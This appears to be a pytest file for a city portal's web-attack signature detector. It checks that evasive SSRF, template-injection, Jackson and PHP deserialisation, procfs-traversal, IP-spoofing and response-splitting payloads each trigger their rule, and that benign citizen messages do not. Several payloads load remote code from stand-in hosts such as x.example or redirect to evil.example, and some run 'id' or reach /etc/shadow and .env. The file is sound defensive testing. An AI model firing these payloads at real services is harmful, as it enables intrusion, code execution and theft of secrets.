"""Third-round evasions of SSRF, template injection and deserialisation, each by its rule,
with the look-alikes a citizen sends beside them."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from citywatch.detect.portal import urls
from citywatch.detect.portal.catalog import RULES
from citywatch.detect.portal.signatures import WebAttackSignatures
from citywatch.model import Event, HttpRequest

DETECTOR = WebAttackSignatures()


def _event(
    uri: str, *, method: str = "GET", body: str = "", headers: tuple[tuple[str, str], ...] = ()
) -> Event:
    headers = (("Host", "portal.aldmere.city"), *headers)
    req = HttpRequest(method=method, uri=uri, version="HTTP/1.1", headers=headers, body=body)
    return Event(id="r-1", timestamp=1_773_475_200.0, dataset="portal.http", payload=req)


def q(value: str, name: str = "q") -> Event:
    return _event(f"/services/view?{quote(name)}={quote(value, safe='')}")


def raw(query: str) -> Event:
    return _event(f"/services/view?{query}")


def form(value: str, name: str = "text") -> Event:
    body = f"category=roads&{name}={quote(value, safe='')}"
    ctype = (("Content-Type", "application/x-www-form-urlencoded"),)
    return _event("/complaints", method="POST", body=body, headers=ctype)


def api(body: str) -> Event:
    ctype = (("Content-Type", "application/json"),)
    return _event("/api/v1/search", method="POST", body=body, headers=ctype)


def header(name: str, value: str) -> Event:
    return _event("/", headers=((name, value),))


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _rules(event: Event) -> set[str]:
    return {h.rule_id.removeprefix("web.") for h in DETECTOR.inspect(event)}


EVASIONS: list[tuple[str, Event]] = [
    # a trailing dot is the DNS root: the same name to every resolver
    ("ssrf.metadata", q("http://metadata.google.internal./computeMetadata/v1/", "url")),
    ("ssrf.internal", q("http://localhost./admin", "url")),
    ("ssrf.metadata", q("http://instance-data./latest/", "url")),
    ("ssrf.internal", q("localhost.:6379", "callback")),
    # dots IDNA maps to "."
    ("ssrf.metadata", q("http://169\u3002254\u3002169\u3002254/latest/meta-data/", "url")),
    ("ssrf.metadata", q("http://169\uff0e254\uff0e169\uff0e254/latest/meta-data/", "url")),
    ("ssrf.metadata", q("http://169\uff61254\uff61169\uff61254/latest/meta-data/", "url")),
    # one slash, or none before the host: WHATWG parsers read http://
    ("ssrf.metadata", q("http:/169.254.169.254/latest/meta-data/", "url")),
    ("ssrf.metadata", q("http:\\169.254.169.254/latest/meta-data/", "url")),
    ("ssrf.metadata", q("see http:/169.254.169.254/latest/meta-data/")),
    ("ssrf.metadata", q("//169.254.169.254/latest/meta-data/", "url")),
    ("ssrf.metadata", q("//169.254.169.254/latest/meta-data/", "doc")),
    # IPv4 inside IPv6: compatible, 6to4, NAT64 (ipaddress calls them global)
    ("ssrf.obfuscated-ip", q("http://[::127.0.0.1]/admin", "url")),
    ("ssrf.metadata", q("http://[64:ff9b::a9fe:a9fe]/latest/", "url")),
    ("ssrf.obfuscated-ip", q("http://[2002:7f00:1::]/", "url")),
    # the server's own address claimed in a client-IP header, however written
    ("protocol.ip-spoofing", header("X-Forwarded-For", "0:0:0:0:0:ffff:7f00:1")),
    ("protocol.ip-spoofing", header("X-Forwarded-For", "::ffff:127.0.0.1, 203.0.113.7")),
    ("protocol.ip-spoofing", header("X-Real-IP", "[0:0:0:0:0:0:0:1]:443")),
    ("protocol.ip-spoofing", header("X-Client-IP", "2130706433")),
    # Spring SpEL's #{...}: a type reference needs no package for java.lang
    ("ssti.code", q('#{T(Runtime).getRuntime().exec(new String[]{"id"})}')),
    ("ssti.code", form("#{ T ( Runtime ) . getRuntime ( ) . exec ( 'id' ) }", "note")),
    ("ssti.code", q("*{T(Runtime).getRuntime().exec('id')}")),  # Thymeleaf's selection
    # doT's {{= }} and {{! }}: an arithmetic probe or JavaScript inside
    ("ssti.arithmetic", q("{{=7*7}}")),
    ("ssti.arithmetic", q("{{! 7*7 }}")),
    ("ssti.object", q("{{= global.process.mainModule.require('child_process') }}")),
    # Jackson's polymorphic typing as a wrapper array: ["<class>", <value>]
    (
        "deserialisation.json-type",
        api(
            '["java.util.HashSet",[["ch.qos.logback.core.db.DriverManagerConnectionSource",'
            '{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://x.example/a.sql\'"}]]]'
        ),
    ),
    (
        "deserialisation.json-type",
        api(
            '{"obj":["org.springframework.context.support.ClassPathXmlApplicationContext",'
            '"http://x.example/spel.xml"]}'
        ),
    ),
    ("deserialisation.json-type", api('["com.zaxxer.hikari.HikariConfig",{"x":"ldap://x/a"}]')),
    ("deserialisation.json-type", form('["org.apache.Foo$Bar", {"a": 1}]', "data")),
    (
        "deserialisation.gadget",
        form('["ch.qos.logback.core.db.DriverManagerConnectionSource",{}]', "data"),
    ),
    # PHP's unserialize reads a signed length
    ("deserialisation.php", q('O:+8:"stdClass":1:{s:1:"a";s:2:"id";}', "data")),
    ("deserialisation.php", q('C:+11:"ArrayObject":0:{}', "data")),
    ("deserialisation.php", q('a:+1:{i:0;O:+4:"Evil":0:{}}', "data")),
    ("deserialisation.php", header("Cookie", "prefs=" + _b64(b'O:+4:"User":1:{s:4:"role";}'))),
    # the application's own files through procfs
    ("traversal.sensitive-file", q("/proc/self/cwd/config/database.yml", "file")),
    ("traversal.sensitive-file", q("/proc/thread-self/root/etc/shadow", "doc")),
    ("traversal.sensitive-file", q("file:///proc/1/cwd/.env", "template")),
    # 嘊嘍 (U+560A U+560D): LF and CR to a server that keeps the low byte
    ("protocol.response-splitting", raw("next=%E5%98%8A%E5%98%8DSet-Cookie:%20aldsid=attacker")),
    ("protocol.response-splitting", q("/ok\u560d\u560aLocation: //evil.example/", "next")),
]

LOOK_ALIKES: list[Event] = [
    q("https://portal.aldmere.city./account", "return_url"),
    q("https://aldmere.city\u3002hr/", "url"),
    q("//portal.aldmere.city/account", "next"),
    q("//cdn.aldmere.city/img/logo.png", "image"),
    form("The link http:/portal.aldmere.city is broken, says my neighbour Željka"),
    form("Ratio 3:/2 in the plan, see page 4"),
    form("市政府。請修路。謝謝"),  # ideographic full stops in prose
    q("localhost.", "q"),
    header("X-Forwarded-For", "203.0.113.7, ::1"),  # a local proxy hop appended
    header("X-Forwarded-For", "2001:db8::17"),
    header("X-Forwarded-For", "0"),
    header("X-Forwarded-For", "unknown"),
    form("Great turnout! #{hashtag} #{Zagreb2026} see you at T(ram) stop 4."),
    form("Paste of my template: {{ }} and {{= name }} and {{=it.street}}"),
    form("Šime wrote #{7} days late; T(otal): 7*7 = 49"),
    q("#{t(shirt)}"),
    api('{"apps":["com.example.app","org.aldmere.Portal"],"note":"java.util is fine"}'),
    api('{"packages":["java.util","javax"],"langs":["Java","Kotlin"]}'),
    form('Our app is com.example.app; I wrote ["java", "rocks"] in the form, Ivana Čović'),
    form("Score O:+8 in the match, a:+1 for us, C:+2 at home"),
    form("我們到了嘍！嘊嘍 Set the cookie jar down: 謝謝"),
    form("好嘍 Set-Cookie: is a header name my nephew told me about"),
    form("The kernel docs on /proc say self and cwd mean the caller and its folder"),
    q("/docs/procedures/self-help.pdf", "file"),
]


@pytest.mark.parametrize(("rule", "event"), EVASIONS)
def test_an_evasion_hits_its_rule(rule: str, event: Event) -> None:
    assert rule in RULES
    assert rule in _rules(event), (event.payload, DETECTOR.inspect(event))


@pytest.mark.parametrize("event", LOOK_ALIKES)
def test_a_look_alike_does_not_hit(event: Event) -> None:
    assert DETECTOR.inspect(event) == [], event.payload


def test_loopback_claims_are_read_as_addresses() -> None:
    assert urls.loopback_claim("[::ffff:7f00:1]:8080")
    assert urls.loopback_claim("::127.0.0.1")
    assert not urls.loopback_claim("::ffff:203.0.113.7")
    assert not urls.loopback_claim("192.0.2.60:8080")


def test_a_remark_with_a_one_slash_url_is_not_ssrf() -> None:
    # an internal URL inside prose is a remark, as with two slashes
    assert urls.ssrf("our wiki at http:/localhost:8080/docs is down again today", "text") is None
